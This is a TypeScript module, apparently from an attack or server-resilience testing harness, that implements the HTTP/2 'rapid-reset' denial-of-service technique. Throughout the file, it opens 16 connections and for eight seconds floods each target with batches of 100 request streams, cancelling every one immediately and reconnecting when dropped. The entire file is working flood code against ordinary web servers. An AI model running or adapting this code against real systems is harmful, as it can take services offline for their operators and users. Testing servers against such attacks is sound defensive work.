import { Buffer } from 'node:buffer';
import type { Attack, AttackTarget } from './attack.ts';
import { dial, frame, GET, preface, put } from './wire.ts';

const CONNECTIONS = 16;
const SECONDS = 8;

export const attack: Attack = {
  name: 'rapid-reset',
  what: '16 connections that start requests and take them back, and come again when hung up on',
  async run(target, signal) {
    const end = Date.now() + SECONDS * 1_000;
    const counts = await Promise.all(Array.from({ length: CONNECTIONS }, () => resetFor(target, end, signal)));
    const sum = (key: 'resets' | 'connections'): number => counts.reduce((total, count) => total + count[key], 0);
    return `${sum('resets')} resets over ${sum('connections')} connections`;
  },
};

async function resetFor(
  target: AttackTarget,
  end: number,
  signal: AbortSignal,
): Promise<{ resets: number; connections: number }> {
  let resets = 0;
  let connections = 0;
  while (Date.now() < end && !signal.aborted) {
    const socket = await dial(target, 'h2');
    socket.resume();
    connections += 1;
    await put(socket, preface());
    let stream = 1;
    const batch = (): Buffer => {
      const frames: Buffer[] = [];
      for (let index = 0; index < 100; index++, stream += 2)
        frames.push(frame(0x01, stream, GET, 0x05), frame(0x03, stream, Buffer.from([0, 0, 0, 8])));
      return Buffer.concat(frames);
    };
    while (Date.now() < end && (await put(socket, batch()))) {
      resets += 100;
      await new Promise((resolve) => void setImmediate(resolve));
    }
    socket.destroy();
  }
  return { resets, connections };
}
